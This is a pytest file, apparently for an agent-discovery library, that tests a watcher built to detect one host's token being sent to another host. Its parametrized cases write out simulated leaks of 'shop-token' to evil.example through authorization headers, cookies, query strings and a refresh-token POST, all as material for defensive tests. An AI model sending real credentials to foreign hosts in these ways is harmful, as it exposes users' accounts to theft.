"""The watch over the whole suite sees what it is there to see."""

from __future__ import annotations

import pytest

from a2a_discovery.testing import FakeAgent
from a2a_discovery.testing._reply import Request


def got(url, **headers):
    return Request(method="GET", url=url, headers=headers)


@pytest.mark.parametrize(
    "request_",
    [
        got("https://evil.example/", authorization="Bearer shop-token"),
        got("https://evil.example/", authorization="Basic dXNlcjpzaG9wLXRva2Vu"),
        got("https://evil.example/", cookie="a=b; key=shop-token"),
        got("https://evil.example/?key=shop-token"),
        got("https://evil.example/", **{"x-any-name": "shop-token"}),
        Request(
            method="POST",
            url="https://evil.example/token",
            headers={"content-type": "application/x-www-form-urlencoded"},
            body=b"grant_type=refresh_token&refresh_token=shop-token",
        ),
    ],
)
def test_a_secret_of_one_host_at_another_is_seen(receipts, request_):
    seen = type(receipts)()
    shop, evil = FakeAgent("shop.example", token="shop-token"), FakeAgent("evil.example", token="evil-token")
    seen.watch(shop, got("https://shop.example/"))

    seen.watch(evil, request_)

    assert len(seen.strays()) == 1
    seen.listed.add("evil.example")
    assert seen.strays() == []


def test_a_secret_that_nobody_knows_may_be_at_one_site_alone(receipts):
    seen = type(receipts)()
    for host in ("shop.example", "api.shop.example"):
        seen.note(host, {"authorization": "Bearer wrong"})
    assert seen.strays() == []

    seen.note("evil.example", {"authorization": "Bearer wrong"})

    assert len(seen.strays()) == 1


def test_what_every_request_carries_is_no_secret(receipts):
    seen = type(receipts)()
    for host in ("shop.example", "evil.example"):
        seen.note(host, {"host": host, "accept": "*/*", "a2a-version": "1.0", "user-agent": "x", "if-none-match": "y"})

    assert seen.strays() == []
